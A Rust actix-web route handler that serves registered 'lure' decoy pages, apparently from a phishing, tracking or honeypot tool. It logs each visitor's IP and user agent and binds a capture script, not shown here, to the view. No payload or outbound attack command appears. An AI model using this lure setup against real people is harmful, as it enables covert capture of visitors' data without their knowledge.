//! The catch-all page handler.
//!
//! Any GET that no other route claimed lands here: resolve the request
//! path against the lure registry (exact match, byte for byte), record a
//! view and serve the decoy page with the capture script bound to the
//! fresh view id. Unknown paths answer a plain 404 and record nothing.

use std::sync::Arc;

use actix_web::http::StatusCode;
use actix_web::{HttpRequest, HttpResponse, Responder, web};
use tracing::{debug, error, trace};

use crate::config::get_config;
use crate::render;
use crate::services::{LureService, ViewService};
use crate::storage::Lure;
use crate::utils::ip::extract_client_ip;

pub struct LurePageService {}

impl LurePageService {
    pub async fn handle_page(
        req: HttpRequest,
        lure_service: web::Data<Arc<LureService>>,
        view_service: web::Data<Arc<ViewService>>,
    ) -> impl Responder {
        let path = req.path();

        // The root path never resolves to a lure; it answers an empty page.
        if path == "/" {
            return HttpResponse::Ok()
                .insert_header(("Content-Type", "text/plain; charset=utf-8"))
                .body("");
        }

        match lure_service.find_by_path(path).await {
            Ok(Some(lure)) => Self::serve_lure(&req, lure, &view_service).await,
            Ok(None) => {
                trace!("No lure registered for path: {}", path);
                Self::not_found_response()
            }
            Err(e) => {
                error!("Database error during lure lookup for {}: {}", path, e);
                Self::error_response()
            }
        }
    }

    async fn serve_lure(
        req: &HttpRequest,
        lure: Lure,
        view_service: &web::Data<Arc<ViewService>>,
    ) -> HttpResponse {
        let ip = extract_client_ip(req).unwrap_or_else(|| "unknown".to_string());
        let user_agent = req
            .headers()
            .get("user-agent")
            .and_then(|h| h.to_str().ok())
            .unwrap_or("")
            .to_string();

        let view_id = match view_service.record_view(&lure.id, &ip, &user_agent).await {
            Ok(id) => id,
            Err(e) => {
                error!("Failed to record view for lure {}: {}", lure.id, e);
                return Self::error_response();
            }
        };

        debug!("Serving lure {} as view {}", lure.path, view_id);

        let capture = &get_config().capture;
        let html = render::lure_page(&lure, &view_id, capture.mode, capture.warmup_ms);

        HttpResponse::Ok()
            .insert_header(("Content-Type", "text/html; charset=utf-8"))
            .body(html)
    }

    #[inline]
    fn not_found_response() -> HttpResponse {
        HttpResponse::build(StatusCode::NOT_FOUND)
            .insert_header(("Content-Type", "text/plain; charset=utf-8"))
            .body("Page not found")
    }

    #[inline]
    fn error_response() -> HttpResponse {
        HttpResponse::build(StatusCode::INTERNAL_SERVER_ERROR)
            .insert_header(("Content-Type", "text/plain; charset=utf-8"))
            .body("Internal Server Error")
    }
}

/// Catch-all route configuration; must be registered last.
pub fn lure_routes() -> actix_web::Scope {
    web::scope("").route("/{path:.*}", web::get().to(LurePageService::handle_page))
}
